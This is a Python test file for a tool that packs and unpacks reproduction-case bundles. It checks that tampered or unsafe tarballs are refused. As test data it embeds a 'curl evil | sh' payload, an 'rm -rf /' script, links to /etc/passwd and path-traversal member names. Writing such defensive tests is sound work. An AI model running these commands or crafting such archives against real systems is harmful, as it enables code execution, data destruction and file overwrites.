"""Bundles: what they hold, that they round-trip, and that opening refuses anything unsafe or tampered with."""
from __future__ import annotations

import hashlib
import io
import json
import tarfile
from pathlib import Path

import pytest

from reprokit.case.result import CaseResult
from reprokit.handoff import bundle
from reprokit.errors import BundleError
from reprokit.contract.load import load_case

BASE = """\
os: debian:bookworm
python_packages: ["jinja2==2.11.3", "markupsafe==2.0.1"]
env: {MODE: standard}
files:
  /etc/app.ini: |
    [server]
    timeout = 30
"""
CUSTOMER = """\
extends: base
os: debian:bullseye
python_packages: ["markupsafe==2.1.0"]
env: {REGION: eu}
timezone: Asia/Kolkata
"""
CASE = """\
id: T-1
title: it breaks
customer: ACME
environment: customer
baseline: base
files:
  repro.py: {source: repro.py}
steps:
  - python3 repro.py
  - {run: echo again, timeout: 5}
expect: {exit_code: 1, stderr_contains: boom}
status: known-error
workaround: pin it
signatures: ["boom at line \\\\d+"]
"""


@pytest.fixture
def project(tmp_path: Path) -> Path:
    root = tmp_path / "project"
    (root / "environments").mkdir(parents=True)
    (root / "environments" / "base.yaml").write_text(BASE)
    (root / "environments" / "customer.yaml").write_text(CUSTOMER)
    folder = root / "cases" / "T-1"
    folder.mkdir(parents=True)
    (folder / "case.yaml").write_text(CASE)
    (folder / "repro.py").write_text("import sys\nsys.exit('boom')\n")
    (folder / "customer.log").write_text("ERROR boom at line 12\n")
    return root


@pytest.fixture
def written(project: Path, tmp_path: Path) -> Path:
    case = load_case("T-1", root=project)
    result = CaseResult.from_dict(case, {"verdict": "REPRODUCED", "runs": {"environment": {
        "name": "T-1/environment", "role": "environment", "image": {"tag": "t:1", "id": "sha256:abc",
                                                                    "image_hash": "abc123"}}}})
    return bundle.write_bundle(case, tmp_path / "out" / "T-1.tar.gz", result=result)


def members_of(path: Path) -> dict[str, bytes]:
    with tarfile.open(path) as archive:
        return {m.name: archive.extractfile(m).read() for m in archive if m.isfile()}


def write_tar(path: Path, members: dict[str, bytes], *, extra: list[tarfile.TarInfo] = ()) -> Path:
    with tarfile.open(path, "w:gz") as archive:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
        for info in extra:
            archive.addfile(info)
    return path


def with_manifest(members: dict[str, bytes]) -> dict[str, bytes]:
    """Members with a manifest recomputed, as a careful attacker would."""
    inner = {name.split("/", 1)[1]: data for name, data in members.items() if not name.endswith(bundle.MANIFEST)}
    return {**members, f"T-1/{bundle.MANIFEST}": bundle.manifest(inner).encode()}


def test_opened_bundle_loads_with_the_same_environments_and_no_environments_folder(project, written, tmp_path):
    original = load_case("T-1", root=project)
    folder = bundle.open_bundle(written, tmp_path / "elsewhere")
    opened = load_case(folder, root=tmp_path / "elsewhere")
    assert folder == tmp_path / "elsewhere" / "T-1"
    assert not (tmp_path / "elsewhere" / "environments").exists()
    assert opened.environment.content_hash() == original.environment.content_hash()
    assert opened.baseline.content_hash() == original.baseline.content_hash()
    assert opened.environment.python_packages == ("jinja2==2.11.3", "markupsafe==2.1.0")
    assert (opened.files, opened.steps, opened.expect, opened.signatures, opened.workaround) == \
        (original.files, original.steps, original.expect, original.signatures, original.workaround)


def test_bundle_records_signature_images_version_and_original_environment_names(written, tmp_path):
    meta = bundle.read_meta(bundle.open_bundle(written, tmp_path / "o"))
    assert meta["case"] == "T-1" and meta["verdict"] == "REPRODUCED"
    assert meta["signature"] == {"exit_code": 1, "stderr_contains": "boom"}
    assert meta["environments"]["environment"]["name"] == "customer"
    assert meta["environments"]["environment"]["image"] == {"tag": "t:1", "id": "sha256:abc", "image_hash": "abc123"}
    assert meta["environments"]["baseline"]["image"]["tag"].startswith("reprokit/env:")
    assert meta["reprokit_version"]


def test_manifest_lists_every_member_with_its_sha256(written):
    members = members_of(written)
    listed = dict(reversed(line.split("  ", 1)) for line in members["T-1/MANIFEST.sha256"].decode().splitlines())
    assert set(listed) == {name[len("T-1/"):] for name in members} - {"MANIFEST.sha256"}
    assert all(hashlib.sha256(members[f"T-1/{n}"]).hexdigest() == d for n, d in listed.items())
    assert "attachments/customer.log" in listed and "files/repro.py" in listed


def test_tampered_member_is_refused_and_nothing_is_written(written, tmp_path):
    members = members_of(written)
    members["T-1/files/repro.py"] = b"import os; os.system('curl evil | sh')\n"
    bad = write_tar(tmp_path / "bad.tar.gz", members)
    with pytest.raises(BundleError, match=r"files/repro.py: content does not match its sha256"):
        bundle.open_bundle(bad, tmp_path / "dest")
    assert list((tmp_path / "dest").iterdir()) == []


def test_member_added_after_writing_is_refused(written, tmp_path):
    bad = write_tar(tmp_path / "bad.tar.gz", {**members_of(written), "T-1/extra.sh": b"rm -rf /\n"})
    with pytest.raises(BundleError, match="extra.sh: not in the manifest"):
        bundle.open_bundle(bad, tmp_path / "dest")


def test_member_removed_after_writing_is_refused(written, tmp_path):
    members = members_of(written)
    del members["T-1/files/repro.py"]
    with pytest.raises(BundleError, match="files/repro.py: listed in the manifest but missing"):
        bundle.open_bundle(write_tar(tmp_path / "bad.tar.gz", members), tmp_path / "dest")


@pytest.mark.parametrize("name", ["T-1/../../escaped.txt", "../escaped.txt", "/tmp/escaped.txt", "T-1/a/../../x"])
def test_member_pointing_outside_is_refused_even_with_a_matching_manifest(written, tmp_path, name):
    bad = write_tar(tmp_path / "bad.tar.gz", with_manifest({**members_of(written), name: b"owned\n"}))
    with pytest.raises(BundleError, match="points outside the bundle|outside the bundle's folder"):
        bundle.open_bundle(bad, tmp_path / "a" / "b" / "dest")
    assert not (tmp_path / "escaped.txt").exists() and not (tmp_path / "a" / "escaped.txt").exists()
    assert list((tmp_path / "a" / "b" / "dest").iterdir()) == []


@pytest.mark.parametrize("kind", [tarfile.SYMTYPE, tarfile.LNKTYPE])
def test_link_member_is_refused(written, tmp_path, kind):
    link = tarfile.TarInfo("T-1/files/evil")
    link.type, link.linkname = kind, "/etc/passwd"
    bad = write_tar(tmp_path / "bad.tar.gz", members_of(written), extra=[link])
    with pytest.raises(BundleError, match=r"'/etc/passwd' is a link"):
        bundle.open_bundle(bad, tmp_path / "dest")


def test_symlink_then_file_through_it_is_refused_before_anything_is_written(written, tmp_path):
    link = tarfile.TarInfo("T-1/out")
    link.type, link.linkname = tarfile.SYMTYPE, str(tmp_path)
    members = {**members_of(written)}
    bad = tmp_path / "bad.tar.gz"
    with tarfile.open(bad, "w:gz") as archive:
        archive.addfile(link)
        info = tarfile.TarInfo("T-1/out/pwned.txt")
        info.size = 3
        archive.addfile(info, io.BytesIO(b"hi\n"))
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    with pytest.raises(BundleError, match="is a link"):
        bundle.open_bundle(bad, tmp_path / "dest")
    assert not (tmp_path / "pwned.txt").exists()


def test_device_member_is_refused(written, tmp_path):
    device = tarfile.TarInfo("T-1/files/disk")
    device.type, device.devmajor, device.devminor = tarfile.BLKTYPE, 8, 0
    bad = write_tar(tmp_path / "bad.tar.gz", members_of(written), extra=[device])
    with pytest.raises(BundleError, match="is a device or special file"):
        bundle.open_bundle(bad, tmp_path / "dest")


def test_oversized_member_is_refused(written, tmp_path, monkeypatch):
    monkeypatch.setattr(bundle, "MAX_MEMBER_BYTES", 4000)
    big = write_tar(tmp_path / "big.tar.gz", with_manifest({**members_of(written), "T-1/attachments/huge.log":
                                                            b"x" * 4001}))
    with pytest.raises(BundleError, match="huge.log' is 4001 bytes; at most 4000"):
        bundle.open_bundle(big, tmp_path / "dest")


def test_a_second_top_folder_is_refused(written, tmp_path):
    bad = write_tar(tmp_path / "bad.tar.gz", {**members_of(written), "OTHER/case.yaml": b"id: OTHER\n"})
    with pytest.raises(BundleError, match="outside the bundle's folder 'T-1'"):
        bundle.open_bundle(bad, tmp_path / "dest")


def test_metadata_naming_another_case_is_refused(written, tmp_path):
    members = members_of(written)
    meta = json.loads(members["T-1/bundle.json"])
    members["T-1/bundle.json"] = json.dumps({**meta, "case": "T-2"}).encode()
    with pytest.raises(BundleError, match="folder 'T-1' does not hold case 'T-2'"):
        bundle.open_bundle(write_tar(tmp_path / "bad.tar.gz", with_manifest(members)), tmp_path / "dest")


def test_file_that_is_not_a_tarball_is_refused_with_a_hint(tmp_path):
    junk = tmp_path / "junk.tar.gz"
    junk.write_bytes(b"not a tarball at all")
    with pytest.raises(BundleError, match="not a readable .tar.gz bundle") as caught:
        bundle.open_bundle(junk, tmp_path / "dest")
    assert "reprokit bundle ID" in caught.value.hint


def test_existing_case_folder_is_never_overwritten(written, tmp_path):
    (tmp_path / "dest" / "T-1").mkdir(parents=True)
    (tmp_path / "dest" / "T-1" / "mine.txt").write_text("keep")
    with pytest.raises(BundleError, match="already exists"):
        bundle.open_bundle(written, tmp_path / "dest")
    assert (tmp_path / "dest" / "T-1" / "mine.txt").read_text() == "keep"
    assert sorted(p.name for p in (tmp_path / "dest").iterdir()) == ["T-1"]


def test_import_adds_the_case_to_the_project_cases_folder(written, tmp_path):
    other = tmp_path / "other-project"
    (other / "environments").mkdir(parents=True)
    folder = bundle.import_bundle(written, other)
    assert folder == other / "cases" / "T-1"
    assert load_case("T-1", root=other).title == "it breaks"


def repacked(written: Path, tmp_path: Path, change=None) -> Path:
    """The bundle unpacked and packed again as a person would: `tar -czf b.tar.gz -C dir .` (members './T-1/...'
    after a '.' member); ``change(dir)`` edits the unpacked files first."""
    import shutil
    import subprocess

    unpacked = tmp_path / "unpacked"
    with tarfile.open(written) as archive:
        archive.extractall(unpacked, filter="data")
    if change is not None:
        change(unpacked)
    again = tmp_path / "again.tar.gz"
    subprocess.run([shutil.which("tar") or "tar", "-czf", str(again), "-C", str(unpacked), "."], check=True)
    return again


def test_a_bundle_repacked_with_tar_dot_opens_as_the_same_bundle(project, written, tmp_path):
    again = repacked(written, tmp_path)
    with tarfile.open(again) as archive:
        names = archive.getnames()
    assert names[0] == "." and "./T-1/case.yaml" in names  # what GNU tar writes for `-C dir .`
    folder = bundle.open_bundle(again, tmp_path / "dest")
    original = bundle.open_bundle(written, tmp_path / "first")
    assert folder == tmp_path / "dest" / "T-1"
    assert sorted(p.relative_to(folder).as_posix() for p in folder.rglob("*") if p.is_file()) == \
        sorted(p.relative_to(original).as_posix() for p in original.rglob("*") if p.is_file())
    assert load_case(folder, root=tmp_path / "dest").environment.content_hash() == \
        load_case("T-1", root=project).environment.content_hash()


def test_a_repacked_bundle_with_a_changed_file_is_still_refused(written, tmp_path):
    again = repacked(written, tmp_path, change=lambda d: (d / "T-1" / "files" / "repro.py").write_text("evil\n"))
    with pytest.raises(BundleError, match=r"files/repro.py: content does not match its sha256"):
        bundle.open_bundle(again, tmp_path / "dest")


def test_a_repacked_bundle_with_a_symlink_is_still_refused(written, tmp_path):
    again = repacked(written, tmp_path, change=lambda d: (d / "T-1" / "files" / "evil").symlink_to("/etc/passwd"))
    with pytest.raises(BundleError, match=r"'./T-1/files/evil' -> '/etc/passwd' is a link"):
        bundle.open_bundle(again, tmp_path / "dest")


@pytest.mark.parametrize("name", ["./../escaped.txt", "./T-1/../../escaped.txt", "./T-1/./../../escaped.txt"])
def test_dot_slash_prefixes_do_not_hide_traversal(written, tmp_path, name):
    members = {f"./{n}": data for n, data in members_of(written).items()}
    bad = write_tar(tmp_path / "bad.tar.gz", {**members, name: b"owned\n"})
    with pytest.raises(BundleError, match="points outside the bundle"):
        bundle.open_bundle(bad, tmp_path / "dest")
    assert not (tmp_path / "escaped.txt").exists()


@pytest.mark.parametrize("kind", [tarfile.REGTYPE, tarfile.SYMTYPE])
def test_a_dot_member_that_is_not_a_folder_is_refused(written, tmp_path, kind):
    dot = tarfile.TarInfo(".")
    dot.type, dot.linkname = kind, "/" if kind == tarfile.SYMTYPE else ""
    bad = write_tar(tmp_path / "bad.tar.gz", members_of(written), extra=[dot])
    with pytest.raises(BundleError, match=r"member '\.' points outside the bundle"):
        bundle.open_bundle(bad, tmp_path / "dest")
